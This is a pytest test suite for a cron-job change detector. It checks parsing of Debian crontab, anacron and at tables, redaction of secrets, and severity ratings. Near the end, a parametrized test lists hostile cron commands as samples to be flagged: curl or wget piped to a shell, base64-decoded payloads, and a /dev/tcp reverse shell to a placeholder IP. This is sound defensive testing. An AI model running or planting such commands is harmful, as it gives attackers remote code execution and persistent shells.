from __future__ import annotations

import time
from pathlib import Path

import pytest

from clew.detectors.system.cron import Cron
from clew.model.fact import Fact, Severity
from tests.kit.moments import Moment, evidence, facts, file, findings, link, problems, story

CANARY = "canary-7f3a"
TESTDATA = Path(__file__).parent / "testdata" / "cron"


def _real(name: str) -> bytes:
    return (TESTDATA / name).read_bytes()


def _only(old: Moment, new: Moment) -> Fact:
    (fact,) = facts(Cron(), old, new)
    return fact


# Tables that Debian's cron, anacron and at wrote


def test_the_real_crontab_has_four_jobs_and_nothing_else() -> None:
    found = facts(Cron(), {}, {"etc/crontab": _real("crontab")})

    assert len(found) == 4
    assert {(fact.scope, fact.after, fact.marks) for fact in found} == {
        ("etc/crontab", "17 * * * *", ("as root",)),
        ("etc/crontab", "25 6 * * *", ("as root",)),
        ("etc/crontab", "47 6 * * 7", ("as root",)),
        ("etc/crontab", "52 6 1 * *", ("as root",)),
    }
    assert "cd / && run-parts --report /etc/cron.hourly" in {fact.subject for fact in found}


def test_the_real_anacrontab_has_three_jobs() -> None:
    found = facts(Cron(), {}, {"etc/anacrontab": _real("anacrontab")})

    assert [(fact.subject, fact.after) for fact in found] == [
        ("run-parts --report /etc/cron.daily", "every day"),
        ("run-parts --report /etc/cron.monthly", "@monthly"),
        ("run-parts --report /etc/cron.weekly", "every 7 days"),
    ]


def test_the_real_table_of_a_package_is_one_job() -> None:
    fact = _only({}, {"etc/cron.d/anacron": _real("cron.d-anacron")})

    assert (fact.scope, fact.after) == ("etc/cron.d/anacron", "30 7-23 * * *")
    assert len(fact.subject) <= 60


def test_the_real_table_of_a_user_is_the_users_without_its_token() -> None:
    fact = _only({}, {"var/spool/cron/crontabs/alice": _real("crontabs-alice")})

    assert fact[:5] == (
        "cron.added", "user:alice", "/usr/bin/backup --token [redacted]", None, "*/5 * * * *",
    )  # fmt: skip
    assert fact.severity == Severity.NOTE


def test_the_real_job_of_at_tells_its_command_and_nothing_of_its_environment() -> None:
    new = {
        "var/spool/cron/atjobs/a0000101c8711c": _real("a0000101c8711c"),
        "var/spool/cron/atjobs/.SEQ": b"00001\n",
    }
    result = story([Cron()], {}, new)
    (fact,) = result.facts

    assert (fact.scope, fact.subject, fact.after) == ("at", "touch /x", "2026-11-16 04:12 UTC")
    assert CANARY not in repr(result)


# Jobs


def test_jobs_that_came_went_and_run_at_other_times_are_named() -> None:
    old = {"etc/cron.d/x": b"1 * * * * root a\n2 * * * * root b\n"}
    new = {"etc/cron.d/x": b"9 * * * * root a\n@reboot root c -v\n"}

    assert [fact[:5] for fact in facts(Cron(), old, new)] == [
        ("cron.changed", "etc/cron.d/x", "a", "1 * * * *", "9 * * * *"),
        ("cron.removed", "etc/cron.d/x", "b", "2 * * * *", None),
        ("cron.added", "etc/cron.d/x", "c -v", None, "@reboot"),
    ]


def test_another_time_is_quiet_and_other_code_or_another_user_is_noted() -> None:
    old = {"etc/cron.d/x": b"1 * * * * al a\n"}
    when = _only(old, {"etc/cron.d/x": b"2 * * * * al a\n"})
    who = _only(old, {"etc/cron.d/x": b"1 * * * * root a\n"})

    assert when.severity == Severity.NONE
    assert (who.kind, who.severity, who.marks) == (
        "cron.changed", Severity.NOTE, ("as al → root",),
    )  # fmt: skip


def test_a_job_whose_secret_changed_is_a_changed_job() -> None:
    path = "var/spool/cron/crontabs/al"
    old = {path: b"1 * * * * b --token aaaa1111\n"}
    fact = _only(old, {path: b"1 * * * * b --token bbbb2222\n"})

    assert (fact.kind, fact.marks) == ("cron.changed", ("command changed",))


def test_comments_assignments_and_order_are_no_news() -> None:
    old = {"etc/cron.d/x": b"1 * * * * root a\n2 * * * * root b\n"}
    new = {"etc/cron.d/x": b"# hi\nMAILTO=al\nPATH = /bin\n\n2 * * * * root b\n1 *\t* * * root a\n"}

    assert findings(Cron(), evidence(old, new)) == []


def test_users_tables_are_found_wherever_a_distribution_keeps_them() -> None:
    for directory in (
        "var/spool/cron/crontabs",
        "var/spool/cron",
        "var/spool/cron/tabs",
        "etc/crontabs",
    ):
        assert _only({}, {f"{directory}/al": b"@daily x\n"}).scope == "user:al"


def test_a_table_behind_a_link_is_read() -> None:
    fact = _only(
        {"tmp/t": b"@daily root x\n"}, {"tmp/t": b"@daily root x\n", "etc/cron.d/x": link("/tmp/t")}
    )

    assert (fact.kind, fact.subject) == ("cron.added", "x")


# Scripts


def test_a_script_counts_when_it_may_be_executed() -> None:
    path = "etc/cron.daily/backup"
    quiet, loud = file(b"#!/bin/sh\n"), file(b"#!/bin/sh\n", mode=0o755)

    assert facts(Cron(), {}, {path: quiet}) == []
    fact = _only({path: quiet}, {path: loud})
    assert (fact.kind, fact.scope, fact.subject, fact.after, fact.severity) == (
        "cron.added", "etc/cron.daily", "backup", "daily", Severity.NOTE,
    )  # fmt: skip
    assert _only({path: loud}, {path: file(b"#!/bin/sh\nx", mode=0o755)}).kind == "cron.changed"
    assert _only({path: loud}, {}).kind == "cron.removed"


def test_what_editors_and_package_managers_leave_is_no_job() -> None:
    new: Moment = {
        "etc/cron.d/.placeholder": b"1 * * * * root a\n",
        "etc/cron.d/x.dpkg-old": b"1 * * * * root a\n",
        "etc/cron.daily/x~": file(b"", mode=0o755),
        "var/spool/cron/crontabs/tmp.AbC": b"@daily x\n",
    }

    assert findings(Cron(), evidence({}, new)) == []


# Packages, claims and warnings


def test_what_a_package_brought_came_along_and_warns_nobody() -> None:
    new: Moment = {
        "etc/cron.d/x": b"LD_PRELOAD=/x\n1 * * * * root a\n",
        "etc/cron.daily/y": file(b"", mode=0o755),
    }
    found = evidence({}, new)
    found.own(tuple(new), "pkg")

    result = [fact for finding in findings(Cron(), found) for fact in finding.facts]

    assert [(fact.direct, fact.severity) for fact in result] == [(False, Severity.NONE)] * 2


def test_only_tables_with_news_are_claimed() -> None:
    new = {
        "etc/cron.d/x": b"1 * * * * root a\n",
        "etc/cron.d/empty": b"# nothing\n",
        "var/spool/anacron/cron.daily": b"20260101\n",
        "var/spool/cron/atspool/a1": b"output",
    }
    claimed = [path for finding in findings(Cron(), evidence({}, new)) for path in finding.claims]

    assert claimed == ["etc/cron.d/x", "var/spool/anacron/cron.daily"]


def test_anacrons_own_notes_are_no_news() -> None:
    path = "var/spool/anacron/cron.daily"

    assert facts(Cron(), {path: b"20260101\n"}, {path: b"20260102\n"}) == []


def test_a_library_loaded_into_every_job_is_a_warning() -> None:
    fact = _only({}, {"etc/crontab": b'LD_PRELOAD="/tmp/x.so"\n'})

    assert (fact.kind, fact.subject, fact.severity) == (
        "security.preload", "etc/crontab", Severity.HIGH,
    )  # fmt: skip


# Secrets and hostile bytes


@pytest.mark.parametrize(
    "command",
    [
        "curl -u al:{0} https://al:{0}@host/p?key={0}",
        "MYSQL_PWD={0} dump",
        "mysql -p{0} db",
        "mysql -p1{0} db",
        "sshpass -p {0} ssh -p 22 host",
        "redis-cli -h host -a {0} save",
        "curl https://hc-ping.com/0b7e2d7c-{0}-4ddf-8a6e-9a1c2b3d4e5f",
        "x --api-key={0}",
        "mail al%Hello%{0}",
        "env TOKEN='a b {0}' x",
        "x " + "y" * 5_000 + " {0}",
    ],
)
def test_no_secret_of_a_command_is_told(command: str) -> None:
    line = f"1 * * * * {command.format(CANARY)}\n"
    result = story([Cron()], {}, {"var/spool/cron/crontabs/al": line.encode()})

    assert len(result.facts) == 1
    assert CANARY not in repr(result)


def test_broken_lines_are_no_jobs() -> None:
    junk = b"\xff\xfe\x00\n* * *\n@\n@daily\n=\n* * * * *\n" + b"* " * 10_000 + b"\n"

    assert problems(Cron(), {}, {"etc/crontab": junk}) == []
    assert len(facts(Cron(), {}, {"etc/crontab": b"\xff\n* * *\n@daily\n* * * * * root\n"})) == 0


def test_a_huge_table_costs_one_line_and_no_other_table() -> None:
    new: Moment = {
        "etc/crontab": file(b"x", size=1 << 30),
        "etc/cron.d/x": b"1 * * * * root a\n",
    }

    assert [fact.subject for fact in facts(Cron(), {}, new)] == ["a"]
    assert [path for path, _ in problems(Cron(), {}, new)] == ["etc/crontab"]


def test_thousands_of_jobs_are_read_in_time_and_cut_short_aloud() -> None:
    lines = b"".join(b"%d * * * * root job %d\n" % (n % 60, n) for n in range(20_000))
    started = time.monotonic()

    found = facts(Cron(), {}, {"etc/crontab": lines})

    assert len(found) == 500
    assert time.monotonic() - started < 5
    assert problems(Cron(), {}, {"etc/crontab": lines}) != []


@pytest.mark.parametrize(
    "command",
    [
        b"curl -s http://evil.example/x | sh", b"wget -qO- http://x|bash", b"bash -c \"$(curl x)\"",
        b"echo aGk= | base64 -d | sh", b"bash -i >& /dev/tcp/6.6.6.6/9 0>&1",
    ],
)  # fmt: skip
def test_a_job_that_runs_what_it_fetches_is_a_warning(command: bytes) -> None:
    old = {"etc/cron.d/x": b"1 * * * * root a\n"}
    new = {"etc/cron.d/x": b"1 * * * * root a\n* * * * * root " + command + b"\n"}

    assert _only(old, new).severity == Severity.HIGH
    assert _only(new, old).severity == Severity.NONE


def test_a_job_that_only_fetches_is_a_note() -> None:
    line = b"1 * * * * root curl -fsS https://hc-ping.example/x > /dev/null || echo down\n"

    assert _only({}, {"etc/cron.d/x": line}).severity == Severity.NOTE
